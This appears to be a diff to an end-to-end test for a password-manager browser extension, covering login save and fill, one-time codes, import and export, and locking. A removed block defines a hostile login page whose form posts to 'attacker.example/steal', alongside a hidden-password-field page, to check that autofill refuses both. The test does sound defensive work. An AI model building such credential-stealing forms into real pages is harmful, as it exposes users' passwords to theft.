@@ -6,17 +6,24 @@
 //   npm run build:extension && node tests/browser/extension-e2e.mjs
 import assert from "node:assert/strict";
 import { execFileSync } from "node:child_process";
-import { mkdirSync, mkdtempSync, rmSync } from "node:fs";
+import { mkdirSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { launchChromium, launchWithExtension } from "./chromium.mjs";
 import { WAIT, openDevice, panel, root, startDemo, vaultAction } from "./demo-page.mjs";
-import { serveStatic } from "./static-server.mjs";
+import { checkHostileForms, trickSite } from "./extension-fill-tricks.mjs";
+import { attackerServer } from "./hostile-forms.mjs";
+import { parseTotp, totpCode } from "../../extension/src/totp.js";
+import { parseImport } from "../../extension/src/importers.js";
 
 const shots = join(root, "tests/browser/screenshots");
 const LOGIN_PAGE = `<!doctype html><meta charset="utf-8"><title>Sign in</title>
 <form><input name="user" autocomplete="username"><input name="pass" type="password"><button>Sign in</button></form>`;
 const PASSWORD = "pw-Ünïcode-🔐-123";
+const TOTP_SECRET = "GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ";
+const SIGNUP_PAGE = `<!doctype html><meta charset="utf-8"><title>Sign up</title>
+<form><input name="email" autocomplete="username"><input name="new" type="password" autocomplete="new-password">
+<input name="again" type="password" autocomplete="new-password"><button>Create account</button></form>`;
 
 async function extensionWorker(context) {
   const worker = context.serviceWorkers()[0] ?? (await context.waitForEvent("serviceworker", { timeout: WAIT }));
@@ -44,14 +51,9 @@ async function main() {
   mkdirSync(shots, { recursive: true });
   const demo = await startDemo();
   execFileSync("bash", [join(root, "scripts/build-extension.sh")], { stdio: "inherit" });
-  const site = await serveStatic({
-    pages: {
-      "/login.html": LOGIN_PAGE,
-      // The same origin, but its form posts elsewhere, or its password field is invisible.
-      "/elsewhere.html": LOGIN_PAGE.replace("<form>", '<form action="https://attacker.example/steal">'),
-      "/invisible.html": LOGIN_PAGE.replace('type="password"', 'type="password" style="opacity:0"'),
-    },
-  });
+  // The login's site also serves the hostile login pages (hostile-forms.mjs).
+  const attacker = await attackerServer();
+  const site = await trickSite(attacker, { "/login.html": LOGIN_PAGE, "/signup.html": SIGNUP_PAGE });
   const port = new URL(site.url).port;
   const loginOrigin = `http://127.0.0.1:${port}`;
   const profile = mkdtempSync(join(tmpdir(), "meta-secret-extension-"));
@@ -74,9 +76,12 @@ async function main() {
     await popup.goto(popupUrl());
     const setup = popup.locator("#setup");
     await setup.waitFor({ timeout: WAIT });
-    await popup.screenshot({ path: join(shots, "ext-1-setup.png") });
+    await popup.locator("body").screenshot({ path: join(shots, "ext-1-setup.png") });
     // Bad input: a readable message with its code, and nothing is kept.
-    await setup.getByLabel("Server").fill(demo.url);
+    // The server picker offers the built-in server first; the test's server is "another".
+    assert.match(await setup.locator("#server-choice").locator("option:checked").textContent(), /built-in server \(127\.0\.0\.1:8787\)/);
+    await setup.locator("#server-choice").selectOption("other");
+    await setup.getByLabel("Server address").fill(demo.url);
     await setup.getByLabel("Passphrase for").fill("extension keys");
     await setup.getByLabel("The passphrase again").fill("extension keyz");
     await setup.getByLabel("Vault").fill(vault);
@@ -85,8 +90,9 @@ async function main() {
     await setup.getByLabel("The passphrase again").fill("extension keys");
     await setup.getByLabel("Vault").fill("no such vault!");
     await setup.getByRole("button", { name: "Ask to join" }).click();
-    await popup.locator("#error", { hasText: "INVALID_INPUT" }).waitFor({ timeout: WAIT });
-    await setup.getByLabel("Server").fill(demo.url);
+    // At once: before the seconds of key derivation a setup starts with.
+    await popup.locator("#error", { hasText: "letters, digits, '-', '_' and '.' only (INVALID_INPUT)" }).waitFor({ timeout: 1500 });
+    await setup.getByLabel("Server address").fill(demo.url);
     await setup.getByLabel("Passphrase for").fill("extension keys");
     await setup.getByLabel("The passphrase again").fill("extension keys");
     await setup.getByLabel("Vault").fill(vault);
@@ -94,7 +100,7 @@ async function main() {
     await popup.locator("#waiting").waitFor({ timeout: 60_000 });
     const code = (await popup.locator("#code").textContent()).trim();
     assert.match(code, /^\d{4}-\d{4}-\d{4}-\d{4}$/);
-    await popup.screenshot({ path: join(shots, "ext-2-waiting.png") });
+    await popup.locator("body").screenshot({ path: join(shots, "ext-2-waiting.png") });
 
     // Alice compares the code and approves; the extension is a member.
     const request = panel(alice).locator(".pending li", { hasText: "browser extension" });
@@ -106,7 +112,7 @@ async function main() {
 
     // Save a login; a bad one is refused with its code.
     const save = popup.locator("#save-login");
-    await popup.locator("#save summary").click();
+    await popup.locator("#save > summary").click();
     await save.getByLabel("Site").fill("ftp://example.com");
     await save.getByLabel("Username").fill("ada");
     await save.getByLabel("Password").fill(PASSWORD);
@@ -149,7 +155,7 @@ async function main() {
     await aliceBatch.getByRole("button", { name: "Approve all" }).click({ timeout: WAIT });
     await panel(alice).locator(".claims li", { hasText: "asks to unlock" }).waitFor({ state: "detached", timeout: WAIT });
     await popup.goto(popupUrl(`?tab=${loginTab}`));
-    await popup.screenshot({ path: join(shots, "ext-3-logins.png") });
+    await popup.locator("body").screenshot({ path: join(shots, "ext-3-logins.png") });
     await entry.getByRole("button", { name: "Fill" }).click({ timeout: WAIT });
     await page.waitForFunction((password) => document.querySelector("input[type=password]").value === password,
       PASSWORD, { timeout: WAIT });
@@ -203,15 +209,17 @@ async function main() {
     const frameFields = await framed.frames()[1].evaluate(() => [...document.querySelectorAll("input")].map((i) => i.value));
     assert.deepEqual(frameFields, ["", ""], "never into a cross-origin frame");
 
-    for (const [path, why] of [["elsewhere", "sends to another site"], ["invisible", "no password field"]]) {
-      const trap = await context.newPage();
-      await trap.goto(`${loginOrigin}/${path}.html`);
-      const refused = await fillInto(await tabId(`${loginOrigin}/${path}.html`));
-      assert.equal(refused.code, "NO_FORM", JSON.stringify(refused));
-      assert.match(refused.message, new RegExp(why));
-      assert.deepEqual(await fields(trap), ["", ""], `nothing filled on ${path}`);
-      await trap.close();
-    }
+    // Every hostile login page is refused and every honest one filled, through the real fill.
+    const tricks = await checkHostileForms(context, site, attacker, tabId, async (tab) => {
+      const answer = await fillInto(tab);
+      return answer.ok ? answer.value : `${answer.code}: ${answer.message}`;
+    }, PASSWORD);
+    // The generator's fill into new-password fields goes through the same checks.
+    await checkHostileForms(context, site, attacker, tabId, async (tab) => {
+      const answer = await popup.evaluate(([tab, password]) => chrome.runtime.sendMessage({ type: "fillNew", tabId: tab, password }), [tab, PASSWORD]);
+      return answer.ok ? answer.value : `${answer.code}: ${answer.message}`;
+    }, PASSWORD);
+    console.log(`${tricks} hostile and honest login pages checked, for a login and for a generated password`);
 
     // A claim made on the web demo shows as a badge and, live, in the open popup; it is approved there.
     await popup.goto(popupUrl());
@@ -228,9 +236,13 @@ async function main() {
       };
       check();
     }));
+    // …and as a notification that says who asks and for what.
+    const notifications = await worker.evaluate(() => chrome.notifications.getAll());
+    assert.deepEqual(Object.keys(notifications).filter((key) => key.startsWith("claim/")).length, 1, JSON.stringify(notifications));
     const ask = popup.locator("#requests li", { hasText: "alice asks to use ada at" });
+    await ask.locator(".age", { hasText: /asked (just now|\d+ s ago) · expires in 1[45] min/ }).waitFor({ timeout: WAIT });
     await ask.waitFor({ timeout: WAIT }); // no reload: the popup redraws when the worker syncs
-    await popup.screenshot({ path: join(shots, "ext-4-request.png") });
+    await popup.locator("body").screenshot({ path: join(shots, "ext-4-request.png") });
     await ask.getByRole("button", { name: "Approve" }).click();
     const aliceReveal = panel(alice).locator(".claims li", { hasText: "1 of 1 approvals" });
     await aliceReveal.getByRole("button", { name: "Reveal" }).click({ timeout: WAIT });
@@ -251,8 +263,127 @@ async function main() {
     await popup.goto(popupUrl());
     await popup.locator("#logins li", { hasText: "grace" }).waitFor({ timeout: WAIT });
     assert.equal(await popup.locator("#logins li", { hasText: "ada" }).count(), 1, "one ada after the edit");
-    loginId = (await popup.evaluate(() => chrome.runtime.sendMessage({ type: "state" }))).value.logins
+    // Saving the same site and username again (not through Edit) updates it too: still one row.
+    const editedId = (await popup.evaluate(() => chrome.runtime.sendMessage({ type: "state" }))).value.logins
       .find((login) => login.username === "ada").id;
+    await popup.locator("#save").evaluate((details) => (details.open = true));
+    await save.getByLabel("Site").fill(loginOrigin);
+    await save.getByLabel("Username").fill("ada");
+    await save.getByLabel("Password").fill("the newest password");
+    // With a one-time code secret (RFC 6238's SHA1 seed in base32); a bad one is refused first.
+    await save.getByLabel(/One-time code/).fill("otpauth://totp/x?secret=GEZA");
+    await save.getByRole("button", { name: "Save login" }).click();
+    await popup.locator("#error", { hasText: /too short.*INVALID_INPUT/ }).waitFor({ timeout: WAIT });
+    assert.equal(await popup.locator("#logins li", { hasText: "ada" }).count(), 1, "a refused save stores nothing");
+    await save.getByLabel(/One-time code/).fill(`otpauth://totp/Example:ada?secret=${TOTP_SECRET}&issuer=Example`);
+    await save.getByRole("button", { name: "Save login" }).click();
+    await popup.waitForFunction(async (old) => {
+      const { value } = await chrome.runtime.sendMessage({ type: "state" });
+      const adas = value.logins.filter((login) => login.username === "ada");
+      return adas.length === 1 && adas[0].id !== old;
+    }, editedId, { timeout: WAIT, polling: 250 });
+    // The newest version is the one that fills, once unlocked (Alice approves the unlock).
+    await popup.goto(popupUrl(`?tab=${loginTab}`));
+    await popup.getByRole("button", { name: /Unlock 1 login/ }).click();
+    await panel(alice).locator(".claims li", { hasText: "browser extension asks to unlock 1 secret(s)" })
+      .getByRole("button", { name: "Approve all" }).click({ timeout: WAIT });
+    await popup.locator("#logins li", { hasText: "ada" }).getByRole("button", { name: "Fill" }).waitFor({ timeout: WAIT });
+    await page.reload();
+    await pressShortcut(context, page, "L", ALT | SHIFT);
+    await page.waitForFunction(() => document.querySelector("input[type=password]").value === "the newest password",
+      undefined, { timeout: WAIT });
+
+    // The one-time code: the popup shows (and copies) the code the RFC algorithm gives now.
+    await popup.goto(popupUrl(`?tab=${loginTab}`));
+    const adaRow = popup.locator("#logins li", { hasText: "ada" });
+    await adaRow.getByRole("button", { name: "Code" }).click({ timeout: WAIT });
+    await popup.locator("#standing", { hasText: "One-time code" }).waitFor({ timeout: WAIT });
+    const shown = await adaRow.getAttribute("data-totp");
+    const now = Date.now();
+    const expected = await Promise.all([now - 30_000, now, now + 30_000].map(async (at) => (await totpCode(parseTotp(TOTP_SECRET), at)).code));
+    assert.ok(expected.includes(shown), `code ${shown}, expected one of ${expected}`);
+
+    // Save on submit: a login typed into the page and sent is offered in the popup (badge "save"),
+    // and saved with one click; sending a changed password for it then offers an update.
+    await page.bringToFront();
+    await page.fill("input[name=user]", "newcomer");
+    await page.fill("input[name=pass]", "typed by hand 1");
+    await Promise.all([page.waitForNavigation(), page.click("button")]);
+    await popup.goto(popupUrl(`?tab=${loginTab}`));
+    const offer = popup.locator("#offer");
+    await offer.locator("#offer-text", { hasText: "Save the login newcomer at" }).waitFor({ timeout: WAIT });
+    await popup.locator("body").screenshot({ path: join(shots, "ext-6-save-offer.png") });
+    await offer.getByRole("button", { name: "Save" }).click();
+    await popup.locator("#logins li", { hasText: "newcomer" }).waitFor({ timeout: WAIT });
+    await offer.waitFor({ state: "hidden", timeout: WAIT });
+    const newcomerId = (await popup.evaluate(() => chrome.runtime.sendMessage({ type: "state" }))).value.logins
+      .find((login) => login.username === "newcomer").id;
+    await page.fill("input[name=user]", "newcomer");
+    await page.fill("input[name=pass]", "typed by hand 2");
+    await Promise.all([page.waitForNavigation(), page.press("input[name=pass]", "Enter")]);
+    await popup.goto(popupUrl(`?tab=${loginTab}`));
+    await offer.locator("#offer-text", { hasText: "Update the stored password of newcomer" }).waitFor({ timeout: WAIT });
+    await offer.getByRole("button", { name: "Update" }).click();
+    await popup.waitForFunction(async (old) => {
+      const { value } = await chrome.runtime.sendMessage({ type: "state" });
+      const rows = value.logins.filter((login) => login.username === "newcomer");
+      return rows.length === 1 && rows[0].id !== old;
+    }, newcomerId, { timeout: WAIT, polling: 250 });
+    // The generator at a sign-up form: both new-password fields get the generated password.
+    const signup = await context.newPage();
+    await signup.goto(`${loginOrigin}/signup.html`);
+    const signupTab = await tabId(`${loginOrigin}/signup.html`);
+    await popup.goto(popupUrl(`?tab=${signupTab}`));
+    await popup.locator("#save > summary").click();
+    await popup.locator("#generator > summary").click();
+    await popup.locator("#generated").filter({ hasText: /.{20}/ }).waitFor({ timeout: WAIT });
+    await popup.getByRole("button", { name: "Use and fill into this page" }).click();
+    await popup.locator("#standing", { hasText: "Filled" }).waitFor({ timeout: WAIT });
+    const generated = await popup.locator("#generated").textContent();
+    assert.equal(generated.length, 20);
+    assert.deepEqual(await fields(signup), ["", generated, generated], "new password and its confirmation");
+    await signup.close();
+
+    // Import: each format's fixture is previewed with its counts; a broken file is refused and
+    // stores nothing; one import is stored. Export: the plaintext warning, then a Bitwarden JSON
+    // file that imports back.
+    await popup.goto(popupUrl());
+    await popup.locator("#logins li", { hasText: "grace" }).waitFor({ timeout: WAIT });
+    const rowsBefore = await popup.locator("#logins li").count();
+    await popup.locator("#menu > summary").click();
+    const fixtures = join(root, "tests/extension/fixtures");
+    for (const [file, summary] of [
+      ["bitwarden.json", "Bitwarden JSON: 2 new login(s); 0 already stored and 0 repeated in the file (left out); 2 skipped."],
+      ["bitwarden.csv", "Bitwarden CSV: 2 new login(s); 0 already stored and 0 repeated in the file (left out); 1 skipped."],
+      ["chrome.csv", "Chrome/Edge CSV: 2 new login(s); 0 already stored and 1 repeated in the file (left out); 0 skipped."],
+      ["edge.csv", "Chrome/Edge CSV: 1 new login(s)"],
+      ["firefox.csv", "Firefox CSV: 2 new login(s); 0 already stored and 0 repeated in the file (left out); 1 skipped."],
+      ["1password.csv", "1Password CSV: 1 new login(s); 0 already stored and 0 repeated in the file (left out); 1 skipped."],
+      ["keepassxc.csv", "KeePassXC CSV: 2 new login(s); 0 already stored and 0 repeated in the file (left out); 1 skipped."],
+      ["keepass.csv", "KeePass CSV: 1 new login(s)"],
+    ]) {
+      await popup.locator("#import-file").setInputFiles(join(fixtures, file));
+      await popup.locator("#import-summary", { hasText: summary }).waitFor({ timeout: WAIT });
+    }
+    await popup.locator("#import-file").setInputFiles(join(fixtures, "broken.csv"));
+    await popup.locator("#error", { hasText: "a quoted field never ends" }).waitFor({ timeout: WAIT });
+    assert.ok(await popup.locator("#import-preview").isHidden(), "a broken file offers nothing to import");
+    assert.equal(await popup.locator("#logins li").count(), rowsBefore, "a broken file stores nothing");
+    await popup.locator("#import-file").setInputFiles(join(fixtures, "keepass.csv"));
+    await popup.getByRole("button", { name: "Import 1 login(s)" }).click();
+    await popup.locator("#standing", { hasText: "Imported 1 login(s)" }).waitFor({ timeout: WAIT });
+    await popup.locator("#logins li", { hasText: "https://example.com" }).waitFor({ timeout: WAIT });
+    assert.equal(await popup.locator("#logins li").count(), rowsBefore + 1);
+    const [download] = await Promise.all([popup.waitForEvent("download"), popup.getByRole("button", { name: /Export unlocked/ }).click()]);
+    const exported = parseImport(readFileSync(await download.path(), "utf8"));
+    assert.equal(exported.format, "Bitwarden JSON");
+    assert.deepEqual(exported.logins.filter((l) => l.username === "ada").map((l) => [l.origin, l.password, l.totp.includes(TOTP_SECRET)]),
+      [[loginOrigin, "the newest password", true]], "the unlocked login round-trips");
+    assert.ok(!exported.logins.some((l) => l.username === "newcomer"), "a locked login is not exported");
+    await popup.goto(popupUrl());
+    await popup.locator("#logins li", { hasText: "grace" }).waitFor({ timeout: WAIT });
+    loginId = (await popup.evaluate(() => chrome.runtime.sendMessage({ type: "state" }))).value.logins
+      .find((login) => login.username === "ada" && login.origin === loginOrigin).id;
     // Delete is a vote: the popup shows its progress, and once Alice votes too the login is gone
     // from the open popup without a reload.
     await popup.locator("#logins li", { hasText: "grace" }).getByRole("button", { name: "Delete" }).click();
@@ -261,10 +392,11 @@ async function main() {
     const graceOnDemo = panel(alice).locator(".secrets li", { hasText: '"username":"grace"' });
     await graceOnDemo.getByRole("button", { name: "Delete" }).click({ timeout: WAIT });
     await popup.locator("#logins li", { hasText: "grace" }).waitFor({ state: "detached", timeout: WAIT });
+    await popup.locator("#menu > summary").click();
     await popup.locator("#idle").getByLabel(/Lock after/).fill("0");
     await popup.locator("#idle").getByRole("button", { name: "Set" }).click();
     await popup.locator("#error", { hasText: "INVALID_INPUT" }).waitFor({ timeout: WAIT });
-    assert.equal(await popup.locator("#logins li").count(), 1, "nothing lost after a refused setting");
+    assert.equal(await popup.locator("#logins li").count(), 3, "nothing lost after a refused setting (ada, newcomer, the import)");
 
     // The lock shortcut (Ctrl+Shift+K) locks at once; the next unlock asks for the passphrase.
     await page.reload();
@@ -277,8 +409,55 @@ async function main() {
     assert.deepEqual(await fields(page), ["", ""], "a locked extension fills nothing");
     await popup.goto(popupUrl());
     await popup.locator("#unlock").getByLabel("Passphrase").fill("extension keys");
+    // The popup says how long an unlock takes (from the last one)…
     await popup.locator("#unlock").getByRole("button", { name: "Unlock" }).click();
-    await popup.locator("#logins li", { hasText: "ada" }).waitFor({ timeout: 60_000 });
+    await popup.locator("#busy", { hasText: /Unlocking, about [1-9]\d* s/ }).waitFor({ timeout: WAIT });
+    await popup.locator(`#logins li[data-origin="${loginOrigin}"]`, { hasText: "ada" }).waitFor({ timeout: 60_000 });
+    // …and while one runs (asked for here without waiting), the worker keeps answering: the key
+    // is derived in the offscreen document (the worker was blocked 3.3–3.6 s). Measured two ways:
+    // round trips of code evaluated on the worker, and the gaps between the ticks of a 10 ms timer
+    // on it (its longest task).
+    await popup.evaluate(() => chrome.runtime.sendMessage({ type: "lock" }));
+    ({ worker } = await extensionWorker(context));
+    await worker.evaluate(() => {
+      const scope = /** @type {any} */ (globalThis);
+      scope.testGaps = [];
+      let last = performance.now();
+      scope.testTicker = setInterval(() => {
+        const now = performance.now();
+        scope.testGaps.push(now - last);
+        last = now;
+      }, 10);
+    });
+    const unlockStarted = Date.now();
+    await popup.evaluate(() => {
+      const scope = /** @type {any} */ (globalThis);
+      scope.unlockAnswer = null;
+      chrome.runtime.sendMessage({ type: "unlock", passphrase: "extension keys" }).then((answer) => (scope.unlockAnswer = answer));
+    });
+    const roundTrips = [];
+    while (!(await popup.evaluate(() => /** @type {any} */ (globalThis).unlockAnswer))) {
+      const sent = Date.now();
+      await worker.evaluate(() => 1);
+      roundTrips.push(Date.now() - sent);
+      await popup.waitForTimeout(100);
+    }
+    assert.equal((await popup.evaluate(() => /** @type {any} */ (globalThis).unlockAnswer)).ok, true, "unlocked");
+    const unlockMs = Date.now() - unlockStarted;
+    const gaps = await worker.evaluate(() => {
+      const scope = /** @type {any} */ (globalThis);
+      clearInterval(scope.testTicker);
+      return scope.testGaps;
+    });
+    await popup.locator(`#logins li[data-origin="${loginOrigin}"]`, { hasText: "ada" }).waitFor({ timeout: 60_000 });
+    const longest = Math.round(Math.max(...gaps) - 10);
+    console.log(`unlock ${unlockMs} ms: ${roundTrips.length} answers from the worker meanwhile, slowest ${Math.max(...roundTrips)} ms; longest task on the worker ≈ ${longest} ms`);
+    assert.ok(roundTrips.length >= 5, `the worker answered ${roundTrips.length} times during a ${unlockMs} ms unlock`);
+    assert.ok(Math.max(...roundTrips) < 1000, `the worker answered within 1 s during the unlock: ${roundTrips}`);
+    // The issue's bench is ≤ 50 ms (measured here: about 15 ms). The bound is looser because a
+    // timer's gap on a busy 2-core CI machine includes the OS's scheduling; a blocked worker is
+    // 3 000 ms.
+    assert.ok(gaps.length > unlockMs / 50 && longest < 250, `longest task on the worker during the unlock: ${longest} ms`);
 
     // Idle lock (shortened for the test): the logins are locked and no page can get them.
     await popup.evaluate(() => chrome.runtime.sendMessage({ type: "setIdle", minutes: 0.05 }));
@@ -289,7 +468,7 @@ async function main() {
     assert.deepEqual(await fields(page), ["", ""]);
     await popup.goto(popupUrl());
     await popup.locator("#unlock").waitFor({ timeout: WAIT });
-    await popup.screenshot({ path: join(shots, "ext-5-locked.png") });
+    await popup.locator("body").screenshot({ path: join(shots, "ext-5-locked.png") });
     // A wrong passphrase is a readable error.
     await popup.locator("#unlock").getByLabel("Passphrase").fill("wrong");
     await popup.locator("#unlock").getByRole("button", { name: "Unlock" }).click();
@@ -301,7 +480,7 @@ async function main() {
       await popup.locator("#unlock").waitFor({ timeout: WAIT });
       await popup.locator("#unlock").getByLabel("Passphrase").fill("extension keys");
       await popup.locator("#unlock").getByRole("button", { name: "Unlock" }).click();
-      await popup.locator("#logins li", { hasText: "ada" }).waitFor({ timeout: 60_000 });
+      await popup.locator(`#logins li[data-origin="${loginOrigin}"]`, { hasText: "ada" }).waitFor({ timeout: 60_000 });
       assert.match(await popup.locator("#standing").textContent(), /member/);
     };
     await popup.evaluate(() => chrome.runtime.sendMessage({ type: "setIdle", minutes: 15 })).catch(() => {});
@@ -324,6 +503,7 @@ async function main() {
     await context.close().catch(() => {});
     await browser.close();
     await site.close();
+    await attacker.close();
     await demo.stop();
     rmSync(profile, { recursive: true, force: true });
   }
